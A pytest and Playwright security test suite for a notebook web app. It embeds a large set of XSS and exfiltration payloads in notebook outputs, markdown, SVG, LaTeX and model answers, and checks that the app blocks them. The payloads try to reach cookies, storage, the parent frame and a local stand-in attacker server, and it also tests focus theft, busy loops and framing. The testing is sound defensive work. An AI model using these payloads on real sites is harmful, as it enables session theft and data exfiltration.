"""Notebooks that mean harm, in a real browser with the real headers.

Whatever a cell, an answer, a name or a file holds: it reaches no cookie, no storage, not the API, and
no other machine. A server of the test's own counts who comes.
"""

from __future__ import annotations

import base64
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import closing

import pytest
from playwright.sync_api import expect

pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

SETTLED_MS = 1_500
MOST_FRAME_PX = 4_000
BARE_CONNECTION = "a connection"


class Counter:
    """A machine elsewhere, as far as the browser knows: it takes down whatever reaches it."""

    def __init__(self) -> None:
        self.reached: list[str] = []
        self._sockets = [socket.create_server(("127.0.0.1", 0))]
        self.port = int(self._sockets[0].getsockname()[1])
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.bind(("127.0.0.1", self.port))
        self._sockets.append(datagrams)
        self.base = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._sockets[0].accept()
            except OSError:
                return
            with closing(connection):
                connection.settimeout(1)
                try:
                    self.reached.append(
                        connection.recv(200).decode("utf-8", "replace") or BARE_CONNECTION
                    )
                    connection.sendall(
                        b"HTTP/1.0 200 OK\r\nAccess-Control-Allow-Origin: *\r\n\r\nhere"
                    )
                except OSError:
                    self.reached.append(BARE_CONNECTION)

    def _receive(self) -> None:
        while True:
            try:
                self.reached.append(f"datagram {self._sockets[1].recv(200)!r}")
            except OSError:
                return

    def close(self) -> None:
        for one in self._sockets:
            one.shutdown(socket.SHUT_RDWR) if one.type == socket.SOCK_STREAM else None
            one.close()


@pytest.fixture
def window(browser):
    """A window whose log is not looked at: what is kept from something says so there."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    context.set_default_timeout(20_000)
    yield context.new_page()
    context.close()


@pytest.fixture
def elsewhere() -> Iterator[Counter]:
    counter = Counter()
    yield counter
    counter.close()


# What a script tries. `say` shows in the frame what it has reached: nothing may be there.
SCRIPT = """
const say = (what) => { const p = document.createElement("p"); p.className = "reached"; p.textContent = what;
  (document.body || document.documentElement).append(p); };
const attempts = {
  cookie: () => document.cookie !== "" && document.cookie, storage: () => localStorage.length + 1,
  session: () => sessionStorage.length + 1, base: () => indexedDB.open("x") && "opened",
  parent: () => parent.document.title + "!", top: () => top.location.href, frames: () => parent.frames[0].document,
  opener: () => opener && opener.name + "!", element: () => frameElement && "frame element",
  window: () => open("ELSEWHERE/window") && "opened", alert: () => { const t = performance.now(); alert(1); return performance.now() - t > 500 && "alert"; },
  above: () => { top.location = "ELSEWHERE/top"; }, worker: () => { new Worker("data:text/javascript,fetch('ELSEWHERE/worker')"); },
  beacon: () => navigator.sendBeacon("ELSEWHERE/beacon") && false, socket: () => { new WebSocket("WS/socket"); },
  events: () => { new EventSource("ELSEWHERE/events"); }, image: () => { new Image().src = "ELSEWHERE/image"; },
  script: () => { const s = document.createElement("script"); s.src = "ELSEWHERE/script"; document.head.append(s); },
  style: () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "ELSEWHERE/style"; document.head.append(l); },
  prefetch: () => { for (const rel of ["prefetch", "preload", "preconnect", "modulepreload", "prerender"]) {
    const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = "ELSEWHERE/" + rel; document.head.append(l); } },
  rules: () => { const s = document.createElement("script"); s.type = "speculationrules";
    s.textContent = JSON.stringify({ prefetch: [{ urls: ["ELSEWHERE/rules"] }], prerender: [{ urls: ["ELSEWHERE/rules2"] }] }); document.head.append(s); },
  frame: () => { const f = document.createElement("iframe"); f.src = "ELSEWHERE/frame"; document.documentElement.append(f); },
  inner: () => { const f = document.createElement("iframe"); f.srcdoc = "<img src='ELSEWHERE/inner'><script>fetch('ELSEWHERE/inner2')</scr" + "ipt>"; document.documentElement.append(f); },
  form: () => { const f = document.createElement("form"); f.action = "ELSEWHERE/form"; f.method = "post"; document.documentElement.append(f); f.submit(); },
  api: () => { const f = document.createElement("form"); f.action = "SERVER/api/notebooks"; f.method = "post"; f.enctype = "text/plain"; document.documentElement.append(f); f.submit(); },
  rtc: () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); },
  font: () => { const s = document.createElement("style"); s.textContent = "@font-face{font-family:x;src:url(ELSEWHERE/font)} *{font-family:x;background:url(ELSEWHERE/background)} @import 'ELSEWHERE/import';"; document.documentElement.append(s); },
  forged: () => { for (const m of [{ ready: true }, { height: 1e9 }, { html: "<script>parent.hacked=1</scr" + "ipt>" }, { event: "run_started" }, "x", null, 7, []]) parent.postMessage(m, "*"); },
};
for (const [name, attempt] of Object.entries(attempts)) { try { const got = attempt(); if (got) say(name + " " + got); } catch {} }
for (const path of ["SERVER/api/notebooks", "/api/notebooks", "ELSEWHERE/fetch"]) {
  fetch(path, { credentials: "include" }).then((a) => a.text()).then((t) => say("fetch " + path + t), () => {});
  fetch(path, { mode: "no-cors", method: "POST", body: "x" }).then(() => say("post " + path), () => {});
}
import("ELSEWHERE/module").then(() => say("module"), () => {});
const done = document.createElement("b"); done.id = "done"; document.documentElement.append(done);
"""


def script(elsewhere: Counter, server) -> str:
    return (
        SCRIPT.replace("ELSEWHERE", elsewhere.base)
        .replace("WS/", f"ws://127.0.0.1:{elsewhere.port}/")
        .replace("PORT", str(elsewhere.port))
        .replace("SERVER", server.base)
    )


def harmful_displays(elsewhere: Counter, server) -> list[dict[str, object]]:
    """MIME bundles, each with what tries to do harm in its own way."""
    code = script(elsewhere, server)
    run = f"<script>{code}</script>"
    url = elsewhere.base
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"{}>{}</svg>'
    mark = "window.hacked=1;try{parent.hacked=1}catch{}"
    return [
        {"text/html": run},
        {
            "text/html": f"<table><tr><td onclick='{mark}'>x<img src=x onerror='{mark}'></table>{run}"
        },
        {
            "text/html": f"<table><thead><tr><th>a</th></tr></thead><tbody><tr><td><a href='javascript:{mark}'>x</a><img src='{url}/cell'></td></tr></tbody></table>"
        },
        {
            "text/html": f"<style>.dataframe{{}} @import '{url}/css'; body{{background:url({url}/bg)}}</style><table class=dataframe background='{url}/tb'><tbody><tr><td>plain</td></tr></tbody></table>"
        },
        {
            "text/html": f"<meta http-equiv=refresh content='0;url={url}/refresh'><base href='{url}/'><img src=relative>"
        },
        {"text/html": f"<script>location='{url}/left'</script>"},
        {
            "text/html": f"<object data='{url}/object'></object><embed src='{url}/embed'><video src='{url}/video' autoplay></video><audio src='{url}/audio' autoplay></audio><link rel=stylesheet href='{url}/link'><input autofocus onfocus='{mark}'><form action='{url}/form2'><button>x</button></form><script>document.querySelector('button').click()</script>"
        },
        {
            "text/html": "<div style='height:90000000px;width:90000000px'></div><div style='position:fixed;inset:0;z-index:9999999;background:red'>over</div>"
        },
        {
            "text/html": "<style>html{height:calc(100vh + 50px)}body{height:calc(100vh + 50px)}</style>grows"
        },
        {
            "image/svg+xml": svg.format(
                f' onload="{mark}"', f"<script>{mark}</script><image href='{url}/svg'/>"
            )
        },
        {
            "image/svg+xml": svg.format(
                "",
                f"<style>*{{fill:url({url}/fill)}}</style><use href='{url}/use#a'/><circle r='9'/>",
            )
        },
        {
            "image/png": '"><script>window.hacked=1</script>',
            "text/plain": "\"><img src=x onerror='window.hacked=1'>",
        },
        {
            "text/markdown": f"[a](javascript:{mark}) <img src=x onerror='{mark}'> ![p]({url}/md) <iframe src='{url}/mdf'></iframe> [d](data:text/html,<script>{mark}</script>)\n\n<script>{mark}</script>\n\n[v]: javascript:{mark}\n[v]"
        },
        {
            "text/latex": f"$\\href{{javascript:{mark}}}{{x}} \\includegraphics{{{url}/tex}} \\style{{background:url({url}/t)}}{{y}} \\rule{{99999em}}{{99999em}}$"
        },
        {"text/latex": "\\def\\x{\\x\\x}\\x"},
        {
            "text/plain": f"\x1b]8;;{url}/osc\x07link\x1b]8;;\x07\x1b]52;c;aGFja2Vk\x07\x1b[999999999B\x1b[999999999CX\u202egnp.exe\u2066\u200b"
        },
        {
            "application/json": json.loads(
                '{"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}, "<script>": "<img src=x onerror=window.hacked=1>"}'
            )
        },
        {"__proto__": "x", "constructor": "y", "text/plain": "names"},
        {
            f"text/x-{mark}<script>": "x",
            "application/javascript": f"{mark}; {code}",
            "text/plain": "other",
        },
        {
            "application/vnd.plotly.v1+json": {"data": "<script>"},
            "text/html": f"<script src='{url}/plotly.js'></script>",
        },
        {"audio/wav": f"x' onerror='{mark}", "video/mp4": "//", "text/plain": "media"},
    ]


def _notebook(server, elsewhere: Counter) -> str:
    """A notebook of a stranger with outputs that are there when it is opened."""
    displays = harmful_displays(elsewhere, server)
    bidi = "\u202eevil\u2066\u200b</title><script>window.hacked=1</script>"
    link = f"[x](javascript:window.hacked=1) <b onmouseover='window.hacked=1'>b</b> ![r]({elsewhere.base}/cell.png)"
    picture = base64.b64encode(b"<script>window.hacked=1</script>").decode()
    outputs = [
        {"output_type": "display_data", "data": data, "metadata": {"</script><script>": bidi}}
        for data in displays
    ]
    error = {
        "output_type": "error",
        "ename": "<img src=x onerror=window.hacked=1>",
        "evalue": bidi,
        "traceback": [
            "<script>window.hacked=1</script>",
            "\x1b]0;title\x07Cell In[1], line 99999999999999999999",
        ],
    }
    cells = [
        {
            "cell_type": "markdown",
            "metadata": {},
            "source": link,
            "attachments": {"a.png": {"image/png": picture}},
        },
        {
            "cell_type": "code",
            "metadata": {"name": bidi},
            "source": f"# {bidi}",
            "execution_count": 1,
            "outputs": [*outputs, error],
        },
    ]
    metadata = json.loads(json.dumps({"title": bidi}).replace("title", "__proto__"))
    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
    for number, cell in enumerate(cells):
        cell["id"] = f"cell{number}"
    upload = {"filename": "<img src=x onerror=hacked=1>.ipynb", "text": json.dumps(document)}
    status, notebook = server.ask("POST", "/api/notebooks/import", upload)
    assert status in {200, 201}, notebook
    return notebook["id"]


def _see_all(window) -> None:
    """Go down to the end, as somebody who reads: frames come when they are near."""
    window.wait_for_selector(".cell")
    for _ in range(40):
        window.mouse.wheel(0, 700)
        window.wait_for_timeout(50)
    window.wait_for_timeout(SETTLED_MS)


def _ran(window) -> bool:
    return any(frame.query_selector("#done") for frame in window.frames[1:])


def _expect_nothing_reached(window, server, elsewhere: Counter, *connections: str) -> None:
    assert [what for what in elsewhere.reached if what not in connections] == []
    assert window.evaluate("[window.hacked, ({}).hacked, document.hacked]") == [None] * 3
    assert window.url.startswith(f"{server.base}/")
    assert len(window.context.pages) == 1
    told = [
        frame.evaluate("[...document.querySelectorAll('.reached')].map(p => p.textContent)")
        for frame in window.frames[1:]
    ]
    assert [texts for texts in told if texts] == []
    assert (
        window.locator(
            "a[href^='javascript' i], a[href^='data' i], script:not([src^='static'])"
        ).count()
        == 0
    )
    # Of what the frame shows; a plate around it has an edge of its own.
    heights = window.evaluate(
        "[...document.querySelectorAll('iframe')].map(f => parseFloat(getComputedStyle(f).height))"
    )
    assert heights
    assert max(heights) <= MOST_FRAME_PX
    assert window.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_stranger_s_notebook_reaches_nothing_when_it_is_opened_and_read(
    shared_server, window, elsewhere
):
    notebook = _notebook(shared_server, elsewhere)
    before = shared_server.ask("GET", "/api/notebooks")[1]
    window.goto(shared_server.base)
    window.wait_for_selector("h1")
    window.evaluate("localStorage.setItem('mine', 'secret')")
    window.context.add_cookies([{"name": "mine", "value": "secret", "url": shared_server.base}])
    window.goto(f"{shared_server.base}/#/notebooks/{notebook}")
    _see_all(window)
    assert not _ran(window)
    _expect_nothing_reached(window, shared_server, elsewhere)
    # The cell is as it was: nothing ran, and nothing was made.
    assert shared_server.ask("GET", "/api/notebooks")[1] == before
    assert "napkin" not in window.title()
    expect(window.locator(".failure >> text=<img src=x onerror=window.hacked=1>")).to_have_count(1)
    # What could make code look like other code is marked.
    assert window.locator(".source .invisible").count() >= 3
    # And where somebody lets the scripts run: no policy keeps `preconnect` from opening a
    # connection, over which nothing goes.
    window.click("text=Run this notebook’s scripts >> nth=0")
    _see_all(window)
    assert _ran(window)
    _expect_nothing_reached(window, shared_server, elsewhere, BARE_CONNECTION)


def test_an_answer_that_means_harm_reaches_nothing_while_it_comes(shared_server, window, elsewhere):
    displays = harmful_displays(elsewhere, shared_server)
    texts = [str(value) for data in displays for value in data.values()]
    answer = "\n\n".join([*texts, "```html", *texts[:2], "```", "# END"])
    notebook, _ = shared_server.new_notebook()
    shared_server.new_cell(
        notebook, "prompt", answer.replace("{", "{{").replace("}", "}}"), model="mock/echo"
    )
    window.goto(f"{shared_server.base}/#/notebooks/{notebook.rpartition('/')[2]}")
    window.click(".template", position={"x": 4, "y": 4})
    window.keyboard.press("Control+Enter")
    window.wait_for_selector(".answer h1 >> text=END")
    window.evaluate("document.body.append(document.createElement('iframe'))")  # the check wants one
    window.wait_for_timeout(SETTLED_MS)
    _expect_nothing_reached(window, shared_server, elsewhere)
    expect(window.locator(".answer img:not([src^='data:image/'])")).to_have_count(0)


THIEF = "<input><script>setInterval(() => document.querySelector('input').focus(), 20);</script>"
BUSY = "<p>busy</p><script>setTimeout(() => { for (;;); }, 200)</script>"


def test_a_frame_takes_neither_the_keys_nor_the_page_s_time(shared_server, window, until):
    code = f"from IPython.display import HTML, display; display(HTML({THIEF!r}), HTML({BUSY!r}))"
    notebook, [cell, other] = shared_server.new_notebook(code, "")
    shared_server.run(cell)
    window.goto(f"{shared_server.base}/#/notebooks/{notebook.rpartition('/')[2]}")
    window.wait_for_selector("iframe >> nth=1")
    window.click(".source.block >> nth=1")
    window.wait_for_selector(".cm-content:focus")
    text = "this is typed while a frame wants the keys"
    window.keyboard.type(text, delay=15)
    until(lambda: shared_server.ask("GET", other)[1]["content"] == text, "all of it is in the cell")


def test_no_other_page_can_frame_this_one(shared_server, window, elsewhere):
    html = f"<iframe src='{shared_server.base}/'></iframe>"
    window.route(
        f"{elsewhere.base}/**", lambda route: route.fulfill(body=html, content_type="text/html")
    )
    window.goto(f"{elsewhere.base}/trap")
    window.wait_for_timeout(500)
    assert "LLM-REPL" not in window.frames[1].content()
